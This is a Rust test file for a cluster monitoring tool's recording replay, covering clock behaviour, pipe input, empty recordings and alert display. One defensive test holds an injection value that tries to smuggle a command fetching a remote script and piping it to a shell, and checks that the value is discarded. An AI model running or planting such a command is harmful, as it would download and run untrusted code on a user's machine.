//! The clock of a replay, and what a recording may do to who plays it.

use kt_protocol::types::NodeId;
use rustix::fs::{CWD, FileType, Mode, mknodat};
use tokio::time::timeout;

use super::*;
use crate::tui::model::cluster::Said;
use crate::tui::model::schedule::{Ask, Kind, Lane, Question};
use crate::tui::model::screen::Screen;
use crate::tui::recording::writer::{Naming, NewFile, record};
use crate::tui::stage::{Stage, Town};
use crate::tui::view::theme::Theme;

/// 2026-11-21T14:00:00Z.
const WALL: i64 = 1_795_269_600_000;
/// Far more than anything here takes.
const LONGEST: Duration = Duration::from_secs(60);

fn header(reach: &str) -> Header {
    let began = jiff::Timestamp::from_millisecond(WALL).unwrap();
    Header::new(began, "prod-eu".to_owned(), reach.to_owned(), false)
}

/// A recording of answers that came at these times, in ms.
fn answers_at(times: &[u64], reach: &str) -> (tempfile::TempDir, PathBuf) {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("a.kt");
    let recording =
        record(NewFile::create(&file).unwrap(), header(reach), Naming::AsTheyAre).unwrap();
    let lane = Lane { kind: Kind::Moves, broker: Some(NodeId(1)) };
    let question = Question { lane, part: 0, parts: 1, ask: Ask::Moves };
    for at in times {
        let line = recording.recorder.line(&question, &Ok(Said::Moves([].into())), 5);
        let wall = Timestamp(WALL + i64::try_from(*at).unwrap());
        recording.recorder.keep(line, || Now { monotonic: Millis(*at), wall });
    }
    recording.finish().unwrap();
    (directory, file)
}

fn play(file: &std::path::Path, speed: &str, at: Option<&str>) -> Play {
    let (speed, at) = (speed.parse().unwrap(), at.map(str::to_owned));
    Play { file: file.to_owned(), speed, at, zone: TimeZone::UTC }
}

fn opened(play: &Play) -> Result<(App, Player), CliError> {
    Player::open(play, &Target::screen(Screen::Overview), Rules::default(), (80, 24))
}

/// Plays it as the loop does; how often that went round.
async fn rounds(app: &mut App, player: &mut Player) -> usize {
    let mut rounds = 0;
    while !player.playing.is_ended() {
        timeout(LONGEST, player.next(app.next_deadline())).await.unwrap();
        player.advance(app);
        rounds += 1;
        assert!(rounds < 1_000, "it turns without an end at {:?}", app.now);
    }
    rounds
}

#[tokio::test]
async fn time_that_nobody_recorded_passes_at_once_and_costs_nothing() {
    let (_directory, file) = answers_at(&[0, 5, 600_005, 1 << 40], "");
    let (mut app, mut player) = opened(&play(&file, "1", None)).unwrap();
    rounds(&mut app, &mut player).await;
    assert_eq!(app.now.monotonic, Millis(1 << 40));
}

#[tokio::test]
async fn each_second_of_a_shorter_silence_is_told() {
    let (_directory, file) = answers_at(&[0, 100_000], "");
    let (mut app, mut player) = opened(&play(&file, "999", None)).unwrap();
    player.advance(&mut app);
    let mut seconds = Vec::new();
    while !player.playing.is_ended() {
        timeout(LONGEST, player.next(app.next_deadline())).await.unwrap();
        player.playing.step(&mut app, player.clock());
        seconds.push(app.now.monotonic.0 / 1_000);
    }
    seconds.dedup();
    assert_eq!(seconds, (0..=100).collect::<Vec<_>>());
}

#[tokio::test]
async fn the_clock_stands_while_nobody_looks_and_never_passes_what_was_not_told() {
    let (_directory, file) = answers_at(&[0, 50, 100_000], "");
    let (mut app, mut player) = opened(&play(&file, "999", None)).unwrap();
    player.pause();
    let stood = player.clock();
    assert!(timeout(Duration::ZERO, player.next(Millis(0))).await.is_err());
    assert_eq!(player.clock(), stood);
    player.resume();
    // However late a key comes, it comes before the next answer.
    player.from = Millis(90_000_000);
    assert_eq!(player.now(&app).monotonic, Millis(0));
    player.playing.step(&mut app, Millis(0));
    assert_eq!(player.now(&app).monotonic, Millis(50));
}

#[tokio::test]
async fn a_pipe_is_played_and_has_no_places() {
    let (directory, file) = answers_at(&[0, 5, 10], "");
    let pipe = directory.path().join("pipe");
    mknodat(CWD, &pipe, FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).unwrap();
    let writer = {
        let (bytes, pipe) = (fs::read(&file).unwrap(), pipe.clone());
        thread::spawn(move || fs::write(pipe, bytes).unwrap())
    };
    let (mut app, mut player) = opened(&play(&pipe, "1", None)).unwrap();
    rounds(&mut app, &mut player).await;
    assert_eq!((app.now.monotonic, player.playing.damage()), (Millis(10), None));
    writer.join().unwrap();
    let error = opened(&play(&pipe, "1", Some("-1s"))).unwrap_err().message;
    assert!(error.starts_with("--at needs a file, and "), "{error}");
}

#[test]
fn a_recording_without_answers_has_no_places() {
    let (_directory, file) = answers_at(&[], "");
    for at in [None, Some("-1s")] {
        let error = opened(&play(&file, "1", at)).unwrap_err().message;
        assert!(error.ends_with("a.kt: the recording holds no answer yet"), "{error}");
    }
}

#[test]
fn what_somebody_else_wrote_does_not_become_a_command() {
    let reach = |reach: &str| {
        let (_directory, file) = answers_at(&[0], reach);
        opened(&play(&file, "1", None)).unwrap().0.setting.reach
    };
    assert_eq!(reach(" ; curl evil.sh | sh\n"), "");
    assert_eq!(reach(" --context 'prod eu'"), " --context 'prod eu'");
}

#[test]
fn nobody_is_told_and_nothing_seems_to_be_under_way() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("a.kt");
    let mut stage = Stage::open(Town::troubled(), 80, 24);
    let recording = record(NewFile::create(&file).unwrap(), header(""), Naming::AsTheyAre).unwrap();
    stage.recorder = Some(recording.recorder.clone());
    stage.pass(31_000);
    recording.finish().unwrap();
    let path = directory.path().join("alerts.toml");
    let text = "[[rule]]\nname = \"pager\"\nkind = \"broker-down\"\nwarn = \"1s\"\nsend = [\"ops\"]\n\n\
                [target.ops]\nwebhook = \"http://127.0.0.1:9/\"\n";
    fs::write(&path, text).unwrap();
    let rules = Rules::read(&path, jiff::Timestamp::UNIX_EPOCH).unwrap();
    let sheet = Sheet { width: 80, height: 24, theme: Theme::default() };
    let alerts = Target::screen(Screen::Alerts);
    let once = once_of_recording(&play(&file, "1", None), rules, &alerts, sheet).unwrap();
    let shown = view::export::text(&once.buffer);
    let line = shown.lines().find(|it| it.contains("pager")).unwrap();
    assert!(!line.contains('…') && line.contains('–'), "{shown}");
}
